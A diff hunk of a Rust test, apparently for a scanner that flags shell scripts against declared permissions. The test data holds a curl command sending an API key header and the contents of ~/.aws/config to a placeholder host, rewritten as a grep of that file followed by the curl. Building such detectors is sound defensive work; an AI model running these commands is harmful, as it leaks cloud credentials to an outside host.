@@ -129,7 +129,10 @@ fn what_is_declared_may_be_used() {
     };
     let mut declared = Declared::default();
     declared.scripts.insert(SH.to_owned(), script);
-    let found = looked(&[(SH, "curl -H \"$KEY\" x.y < ~/.aws/config\n")], &declared);
+    let found = looked(
+        &[(SH, "grep region ~/.aws/config\ncurl -H \"$KEY\" x.y\n")],
+        &declared,
+    );
     assert_eq!(found.len(), 1);
     assert_eq!(
         (found[0].rule, found[0].class),
